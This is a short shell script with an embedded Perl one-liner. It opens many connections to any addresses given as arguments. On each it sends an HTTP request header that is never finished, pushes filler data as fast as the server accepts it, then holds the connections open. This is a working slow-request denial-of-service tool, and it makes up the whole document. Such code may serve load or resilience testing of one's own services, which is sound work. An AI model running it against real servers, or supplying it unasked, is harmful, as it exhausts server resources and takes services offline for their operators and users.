# Sends heads of requests that never end, on many connections, as fast as they are taken; stops when nothing more is taken, and
# keeps the connections. Arguments: how many connections to each, ADDRESS:PORT …
ulimit -n 8192 || true
perl -MIO::Socket::INET -e '
    $| = 1;
    $SIG{PIPE} = "IGNORE";
    my $count = shift;
    my @open = map { my $to = $_; map { IO::Socket::INET->new(PeerAddr => $to, Timeout => 5) } 1 .. $count } @ARGV;
    print scalar(grep { defined } @open), " connections\n";
    @open = grep { defined } @open;
    $_->blocking(0), syswrite $_, "GET /healthz HTTP/1.1\r\nX: " for @open;
    my ($words, $rest) = ("x" x 65536, 20);
    while ($rest > 0) {
        my $sent = 0;
        for (@open) { $sent += syswrite($_, $words) // 0 }
        $rest = $sent ? 20 : $rest - 1;
        select undef, undef, undef, 0.1 unless $sent;
    }
    print "under way\n";
    1 while sysread STDIN, $words, 1;
' "$@"
